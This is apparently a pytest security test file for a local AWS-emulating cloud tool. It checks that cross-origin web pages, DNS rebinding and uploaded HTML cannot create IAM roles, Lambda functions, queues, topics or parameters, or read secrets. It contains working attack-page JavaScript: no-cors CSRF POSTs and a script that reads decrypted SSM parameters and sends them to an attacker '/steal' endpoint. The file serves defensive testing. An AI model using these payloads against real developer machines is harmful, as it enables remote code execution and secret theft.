"""Web pages against the local cloud, in a real browser: what issue 12's "Why" did, now refused.

A page on another origin sends "simple" cross-origin requests (form-encoded, ``text/plain`` or multipart
POSTs, which the browser sends without a preflight), naming the service with ``?X-Amz-Credential=…/iam/…``;
a page reached through DNS rebinding reads the cloud as its own origin; an HTML file uploaded into the
state bucket would run on the cloud's origin. Each test then looks at the cloud's state with the home's
own credentials: nothing was created, changed or read.
"""

from __future__ import annotations

import base64
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from botocore.config import Config
from botocore.exceptions import ClientError
from playwright.sync_api import Page, Route

from squall.cloud import CloudInfo
from tests.integration.conftest import ClientFactory
from tests.security.conftest import REBIND_HOST, Attacker, Raw

STATE_BUCKET = "squall-state-123456789012-us-east-1"
SECRET = "s3cr3t-value-only-the-developer-may-read"
ASSUME_ROLE_POLICY = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
        ],
    }
)

# What every attacking page shares: the cloud's URL, a credential scope naming a service, a simple POST.
PRELUDE = """
const cloud = "{cloud}";
const scope = service => "X-Amz-Credential=x%2F20240101%2Fus-east-1%2F" + service + "%2Faws4_request";
async function simplePost(url, body, type) {{
  try {{ await fetch(url, {{method: "POST", mode: "no-cors", headers: {{"Content-Type": type}}, body}}); }}
  catch (error) {{}}
}}
async function formPost(url, fields, file) {{
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  form.append("file", new Blob([file], {{type: "text/html"}}), "page.html");
  try {{ await fetch(url, {{method: "POST", mode: "no-cors", body: form}}); }} catch (error) {{}}
}}
"""


def attack_page(cloud: CloudInfo, script: str) -> str:
    return (
        "<!doctype html><title>cat pictures</title><script>"
        + PRELUDE.format(cloud=cloud.endpoint)
        + "(async () => {"
        + script
        + '\ndocument.title = "attempted"; })();</script>'
    )


def run_attack(page: Page, attacker: Attacker, cloud: CloudInfo, script: str) -> None:
    page.goto(attacker.page(attack_page(cloud, script), host="localhost"))
    page.wait_for_function("document.title === 'attempted'", timeout=30_000)


def handler_zip(marker: Path) -> str:
    source = f"import os\n\ndef handler(event, context):\n    open({str(marker)!r}, 'w').write(str(os.getuid()))\n    return 'owned'\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("app.py", source)
    return base64.b64encode(buffer.getvalue()).decode()


def _names(values: list[str], name: str) -> bool:
    return any(name in value for value in values)


def test_iam_role_is_not_created_from_a_page(
    page: Page,
    attacker: Attacker,
    local_cloud: CloudInfo,
    aws_client: ClientFactory,
    unique_name: Callable[[str], str],
) -> None:
    role = unique_name("pwned")
    body = (
        f"Action=CreateRole&Version=2010-05-08&RoleName={role}&AssumeRolePolicyDocument=" + ASSUME_ROLE_POLICY
    )
    run_attack(
        page,
        attacker,
        local_cloud,
        f"await simplePost(cloud + '/?' + scope('iam'), {json.dumps(body)}, 'application/x-www-form-urlencoded');",
    )
    roles = [r["RoleName"] for r in aws_client("iam").list_roles()["Roles"]]
    assert role not in roles


def test_lambda_function_is_not_created_or_run_from_a_page(
    page: Page,
    attacker: Attacker,
    local_cloud: CloudInfo,
    aws_client: ClientFactory,
    unique_name: Callable[[str], str],
    tmp_path: Path,
) -> None:
    role, function = unique_name("pwned"), unique_name("pwned")
    marker = tmp_path / "handler-ran"
    create_role = (
        f"Action=CreateRole&Version=2010-05-08&RoleName={role}&AssumeRolePolicyDocument=" + ASSUME_ROLE_POLICY
    )
    create_function = json.dumps(
        {
            "FunctionName": function,
            "Runtime": "python3.12",
            "Role": f"arn:aws:iam::123456789012:role/{role}",
            "Handler": "app.handler",
            "Code": {"ZipFile": handler_zip(marker)},
        }
    )
    run_attack(
        page,
        attacker,
        local_cloud,
        f"""
        await simplePost(cloud + '/?' + scope('iam'), {json.dumps(create_role)}, 'application/x-www-form-urlencoded');
        await simplePost(cloud + '/2015-03-31/functions?' + scope('lambda'), {json.dumps(create_function)}, 'text/plain');
        await simplePost(cloud + '/2015-03-31/functions/{function}/invocations?' + scope('lambda'), '{{}}', 'text/plain');
        """,
    )
    assert not marker.exists(), "the page ran code on the developer's machine"
    functions = [f["FunctionName"] for f in aws_client("lambda").list_functions()["Functions"]]
    assert function not in functions
    assert role not in [r["RoleName"] for r in aws_client("iam").list_roles()["Roles"]]


def test_sqs_queue_is_not_created_from_a_page(
    page: Page,
    attacker: Attacker,
    local_cloud: CloudInfo,
    aws_client: ClientFactory,
    unique_name: Callable[[str], str],
) -> None:
    queue = unique_name("pwned")
    run_attack(
        page,
        attacker,
        local_cloud,
        f"await simplePost(cloud + '/?' + scope('sqs'), 'Action=CreateQueue&QueueName={queue}', 'application/x-www-form-urlencoded');",
    )
    assert not aws_client("sqs").list_queues(QueueNamePrefix=queue).get("QueueUrls")


def test_sns_topic_is_not_created_from_a_page(
    page: Page,
    attacker: Attacker,
    local_cloud: CloudInfo,
    aws_client: ClientFactory,
    unique_name: Callable[[str], str],
) -> None:
    topic = unique_name("pwned")
    run_attack(
        page,
        attacker,
        local_cloud,
        f"await simplePost(cloud + '/?' + scope('sns'), 'Action=CreateTopic&Name={topic}', 'application/x-www-form-urlencoded');",
    )
    arns = [t["TopicArn"] for t in aws_client("sns").list_topics()["Topics"]]
    assert not _names(arns, topic)


def test_ssm_parameter_is_not_written_from_a_page(
    page: Page,
    attacker: Attacker,
    local_cloud: CloudInfo,
    aws_client: ClientFactory,
    unique_name: Callable[[str], str],
) -> None:
    name = "/" + unique_name("pwned")
    body = json.dumps({"Name": name, "Value": "owned", "Type": "String"})
    run_attack(
        page,
        attacker,
        local_cloud,
        f"await simplePost(cloud + '/?Action=PutParameter&' + scope('ssm'), {json.dumps(body)}, 'text/plain');",
    )
    with pytest.raises(ClientError) as missing:
        aws_client("ssm").get_parameter(Name=name)
    assert missing.value.response["Error"]["Code"] == "ParameterNotFound"


def test_s3_object_is_not_uploaded_from_a_page(
    page: Page,
    attacker: Attacker,
    local_cloud: CloudInfo,
    aws_client: ClientFactory,
    unique_name: Callable[[str], str],
) -> None:
    bucket = unique_name("victim")
    aws_client("s3").create_bucket(Bucket=bucket)
    run_attack(
        page,
        attacker,
        local_cloud,
        f"await formPost(cloud + '/{bucket}', {{key: 'owned.txt'}}, 'owned');",
    )
    assert aws_client("s3").list_objects_v2(Bucket=bucket)["KeyCount"] == 0


@pytest.fixture
def secret(aws_client: ClientFactory, unique_name: Callable[[str], str]) -> str:
    """A SecureString like ``squall secret set`` stores; its name."""
    name = f"/sst/{unique_name('app')}/dev/Secret/ApiKey/value"
    aws_client("ssm").put_parameter(Name=name, Value=SECRET, Type="SecureString")
    return name


READ_SECRETS = """
const request = {method: "POST", headers: {"Content-Type": "text/plain"},
  body: JSON.stringify({Path: "/", Recursive: true, WithDecryption: true})};
let text = "";
try { text = await (await fetch("/?Action=GetParametersByPath&" + SCOPE, request)).text(); }
catch (error) { text = "failed: " + error; }
try { await fetch(ATTACKER + "/steal", {method: "POST", mode: "no-cors", body: text}); } catch (error) {}
"""


def read_secrets_script(attacker: Attacker) -> str:
    scope = "X-Amz-Credential=x%2F20240101%2Fus-east-1%2Fssm%2Faws4_request"
    return READ_SECRETS.replace("SCOPE", json.dumps(scope)).replace("ATTACKER", json.dumps(attacker.origin))


def test_dns_rebinding_cannot_read_secrets(
    page: Page, attacker: Attacker, local_cloud: CloudInfo, secret: str
) -> None:
    """The page was served as rebind.evil.example:PORT, a name that now resolves to 127.0.0.1."""
    origin = f"http://{REBIND_HOST}:{local_cloud.port}"
    html = (
        "<!doctype html><title>loading</title><script>(async () => {"
        + read_secrets_script(attacker)
        + 'document.title = "attempted"; })();</script>'
    )

    def serve_page(route: Route) -> None:
        route.fulfill(status=200, content_type="text/html", body=html)

    page.route(lambda url: url.rstrip("/") == origin, serve_page)
    page.goto(origin + "/")
    page.wait_for_function("document.title === 'attempted'", timeout=30_000)
    stolen = attacker.stolen()
    assert len(stolen) == 1, "the page ran its whole script"
    assert SECRET.encode() not in stolen[0].body and secret.encode() not in stolen[0].body


def test_dns_rebinding_host_is_refused_before_anything(raw: Raw, local_cloud: CloudInfo, secret: str) -> None:
    answer = raw(
        "POST",
        "/",
        json.dumps({"Path": "/", "Recursive": True, "WithDecryption": True}).encode(),
        {
            "Host": f"{REBIND_HOST}:{local_cloud.port}",
            "X-Amz-Target": "AmazonSSM.GetParametersByPath",
            "Content-Type": "application/x-amz-json-1.1",
        },
    )
    assert answer.status == 400
    assert SECRET.encode() not in answer.body and b"rebind" in answer.body


@pytest.fixture
def state_bucket(aws_client: ClientFactory) -> str:
    s3 = aws_client("s3")
    try:
        s3.create_bucket(Bucket=STATE_BUCKET)
    except ClientError as exc:
        if exc.response["Error"]["Code"] not in ("BucketAlreadyOwnedByYou", "BucketAlreadyExists"):
            raise
    s3.put_bucket_versioning(Bucket=STATE_BUCKET, VersioningConfiguration={"Status": "Enabled"})
    return STATE_BUCKET


def test_html_uploaded_into_the_state_bucket_cannot_read_secrets(
    page: Page,
    attacker: Attacker,
    local_cloud: CloudInfo,
    aws_client: ClientFactory,
    state_bucket: str,
    secret: str,
    unique_name: Callable[[str], str],
) -> None:
    key = unique_name("evil") + ".html"
    evil = (
        "<!doctype html><title>evil</title><script>(async () => {"
        + read_secrets_script(attacker)
        + 'document.title = "evil ran"; })();</script>'
    )
    target = f"{local_cloud.endpoint}/{state_bucket}/{key}"
    embedded = json.dumps(evil).replace("</", "<\\/")  # inside the attacking page's own <script>
    run = f"""
        await formPost(cloud + '/{state_bucket}', {{key: {json.dumps(key)}, acl: 'public-read', 'Content-Type': 'text/html'}}, {embedded});
        location.href = {json.dumps(target)};
        await new Promise(() => {{}});
    """
    page.goto(attacker.page(attack_page(local_cloud, run), host="localhost"))
    page.wait_for_url(target, wait_until="commit", timeout=30_000)
    page.wait_for_function(
        "document.title === 'evil ran' || document.documentElement.outerHTML.includes('AccessDenied')",
        timeout=30_000,
    )
    assert all(SECRET.encode() not in r.body for r in attacker.stolen()), "the page read the secrets"
    assert page.title() != "evil ran"
    with pytest.raises(ClientError) as missing:
        aws_client("s3").head_object(Bucket=state_bucket, Key=key)
    assert missing.value.response["Error"]["Code"] == "404"


@pytest.mark.parametrize("name", ["state.json", "lock.json"])
def test_a_stages_state_and_lock_cannot_be_overwritten_by_a_form(
    name: str,
    page: Page,
    attacker: Attacker,
    local_cloud: CloudInfo,
    aws_client: ClientFactory,
    state_bucket: str,
    unique_name: Callable[[str], str],
) -> None:
    key = f"apps/{unique_name('app')}/dev/{name}"
    s3 = aws_client("s3")
    original = json.dumps({"version": 1, "resources": {}}).encode()
    s3.put_object(Bucket=state_bucket, Key=key, Body=original)
    forged = json.dumps({"version": 1, "resources": {}, "owned": True})
    run_attack(
        page,
        attacker,
        local_cloud,
        f"await formPost(cloud + '/{state_bucket}', {{key: {json.dumps(key)}}}, {json.dumps(forged)});",
    )
    assert s3.get_object(Bucket=state_bucket, Key=key)["Body"].read() == original
    assert len(s3.list_object_versions(Bucket=state_bucket, Prefix=key)["Versions"]) == 1


def test_an_object_never_runs_as_active_content_on_the_clouds_origin(
    page: Page, aws_client: ClientFactory, unique_name: Callable[[str], str]
) -> None:
    """Even HTML the developer stored themselves opens sandboxed: its script cannot use the cloud's origin."""
    bucket = unique_name("site")
    s3 = aws_client("s3")
    s3.create_bucket(Bucket=bucket)
    s3.put_object(
        Bucket=bucket,
        Key="index.html",
        Body=b"<!doctype html><title>static</title><script>document.title = 'script ran';</script><p>hi</p>",
        ContentType="text/html",
    )
    url = s3.generate_presigned_url(
        "get_object", Params={"Bucket": bucket, "Key": "index.html"}, ExpiresIn=300
    )
    response = page.goto(url)
    assert response is not None and response.status == 200
    page.wait_for_load_state("load")
    assert page.locator("p").inner_text() == "hi"
    assert page.title() == "static"
    assert response.headers["content-security-policy"] == "sandbox"


CORS_UPLOAD = """
<!doctype html><title>app</title><script>
(async () => {
  try {
    const response = await fetch(URL, {method: "PUT", headers: {"Content-Type": "text/plain"}, body: "from the browser"});
    document.body.dataset.result = JSON.stringify({status: response.status, etag: response.headers.get("ETag")});
  } catch (error) {
    document.body.dataset.result = JSON.stringify({error: String(error)});
  }
  document.title = "done";
})();
</script>
"""


def _cors_upload(page: Page, attacker: Attacker, url: str) -> Any:
    page.goto(attacker.page(CORS_UPLOAD.replace("URL", json.dumps(url)), host="localhost"))
    page.wait_for_function("document.title === 'done'", timeout=30_000)
    return json.loads(page.locator("body").get_attribute("data-result") or "{}")


@pytest.mark.parametrize("allowed", [True, False])
def test_a_presigned_upload_from_a_page_follows_the_buckets_cors(
    allowed: bool,
    page: Page,
    attacker: Attacker,
    aws_client: ClientFactory,
    unique_name: Callable[[str], str],
) -> None:
    origin = f"http://localhost:{attacker.port}"
    bucket = unique_name("uploads")
    s3 = aws_client("s3")
    s3.create_bucket(Bucket=bucket)
    s3.put_bucket_cors(
        Bucket=bucket,
        CORSConfiguration={
            "CORSRules": [
                {
                    "AllowedOrigins": [origin if allowed else "http://localhost:1"],
                    "AllowedMethods": ["PUT", "GET"],
                    "AllowedHeaders": ["content-type"],
                    "ExposeHeaders": ["ETag"],
                    "MaxAgeSeconds": 60,
                }
            ]
        },
    )
    url = s3.generate_presigned_url(
        "put_object",
        Params={"Bucket": bucket, "Key": "upload.txt", "ContentType": "text/plain"},
        ExpiresIn=300,
    )
    result = _cors_upload(page, attacker, url)
    if allowed:
        assert result["status"] == 200 and result["etag"], result
        assert s3.get_object(Bucket=bucket, Key="upload.txt")["Body"].read() == b"from the browser"
        preflights = [r for r in attacker.received if r.method == "OPTIONS"]
        assert preflights == []  # the preflight went to the cloud, not to the page's own server
    else:
        assert "error" in result, result
        assert s3.list_objects_v2(Bucket=bucket)["KeyCount"] == 0


def test_sigv4_presigned_upload_from_an_allowed_page(
    page: Page,
    attacker: Attacker,
    local_cloud: CloudInfo,
    boto3_session: Any,
    unique_name: Callable[[str], str],
) -> None:
    origin = f"http://localhost:{attacker.port}"
    bucket = unique_name("uploads")
    s3 = boto3_session.client(
        "s3",
        endpoint_url=local_cloud.endpoint,
        config=Config(signature_version="s3v4", s3={"addressing_style": "path"}),
    )
    s3.create_bucket(Bucket=bucket)
    s3.put_bucket_cors(
        Bucket=bucket,
        CORSConfiguration={
            "CORSRules": [{"AllowedOrigins": [origin], "AllowedMethods": ["PUT"], "AllowedHeaders": ["*"]}]
        },
    )
    url = s3.generate_presigned_url(
        "put_object", Params={"Bucket": bucket, "Key": "upload.txt"}, ExpiresIn=300
    )
    assert "X-Amz-Signature=" in url and urlsplit(url).hostname == "127.0.0.1"
    result = _cors_upload(page, attacker, url)
    assert result.get("status") == 200, result
    assert s3.get_object(Bucket=bucket, Key="upload.txt")["Body"].read() == b"from the browser"
